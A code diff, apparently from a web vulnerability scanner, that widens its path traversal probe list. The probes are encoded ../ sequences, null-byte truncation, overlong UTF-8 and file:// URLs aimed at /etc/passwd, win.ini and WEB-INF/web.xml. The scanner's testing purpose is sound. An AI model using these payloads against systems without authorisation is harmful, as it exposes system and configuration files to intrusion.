@@ -20,20 +20,63 @@ export function pathsFor(point: InjectionPoint, isThorough: boolean): readonly F
     ...(folder === '' || folder === '/' ? [] : [`${folder}${UP}etc/passwd`]),
     `${'....//'.repeat(10)}etc/passwd`,
     'file:///etc/passwd',
-    ...(extension === '' ? [] : [`${UP}etc/passwd\0${extension}`]),
+    `${UP}etc/passwd\0${extension}`,
     `${'..%2f'.repeat(10)}etc%2fpasswd`,
+    ...(isThorough ? rareForms(value, extension) : []),
+  ];
+  const windows = [
+    `${'..\\'.repeat(10)}windows\\win.ini`,
     ...(isThorough
-      ? [`${'..\\'.repeat(10)}etc\\passwd`, `${'%c0%ae%c0%ae/'.repeat(10)}etc/passwd`, `/${UP}etc/passwd`]
+      ? [
+          'C:\\windows\\win.ini',
+          'file:///C:/windows/win.ini',
+          `${UP}windows/win.ini`,
+          `${UP}windows/win.ini\0${extension}`,
+        ]
       : []),
   ];
-  const windows = [`${'..\\'.repeat(10)}windows\\win.ini`, ...(isThorough ? ['C:\\windows\\win.ini'] : [])];
-  const java = ['/WEB-INF/web.xml', ...(isThorough ? ['../WEB-INF/web.xml', '../../WEB-INF/web.xml'] : [])];
+  const java = [
+    '/WEB-INF/web.xml',
+    ...(isThorough || isJava(point)
+      ? [
+          'WEB-INF/web.xml',
+          '../WEB-INF/web.xml',
+          '../../WEB-INF/web.xml',
+          '/../WEB-INF/web.xml',
+          '\\WEB-INF\\web.xml',
+          `${folder}../WEB-INF/web.xml`,
+        ]
+      : []),
+  ];
   return [
     ...passwd.map((one) => ({ file: PASSWD, value: one })),
     ...(isPhp(point) ? sources(point) : []),
     ...java.map((one) => ({ file: WEB_XML, value: one })),
     ...windows.map((one) => ({ file: WIN_INI, value: one })),
   ];
+}
+
+/** For checks of the start or end of a path, parts that are added or removed, and separators that are replaced. */
+function rareForms(value: string, extension: string): string[] {
+  return [
+    `${'..\\'.repeat(10)}etc\\passwd`,
+    `\\${'..\\'.repeat(10)}etc\\passwd`,
+    `${'%c0%ae%c0%ae/'.repeat(10)}etc/passwd`,
+    `/${UP}etc/passwd`,
+    `./${UP}etc/passwd`,
+    `${'..././'.repeat(10)}etc/passwd`,
+    `${'..%252f'.repeat(10)}etc%252fpasswd`,
+    `/var/www/${UP}etc/passwd`,
+    `/var/www/html/${UP}etc/passwd`,
+    `file://localhost/etc/passwd`,
+    `file:///etc/passwd?${extension}`,
+    `file:///etc/passwd#${extension}`,
+    ...(/^[\w.-]{1,60}$/.test(value) ? [`${value}/${UP}etc/passwd`] : []),
+  ];
+}
+
+function isJava({ url }: InjectionPoint): boolean {
+  return /\.(?:jsp|jspx|do|action|faces)\b/i.test(new URL(url).pathname);
 }
 
 function isPhp({ url, value }: InjectionPoint): boolean {
@@ -58,5 +101,5 @@ export function elsewhere({ file, value }: FilePath, token: string): string {
 
 /** The same file in another form. */
 export function inAnotherForm({ file, value }: FilePath): string {
-  return file === PASSWD ? value.replace(/etc(\/|%2f)passwd/, 'etc$1.$1passwd') : value;
+  return file === PASSWD ? value.replace(/etc(\/|%2f|%252f)passwd/, 'etc$1.$1passwd') : value;
 }
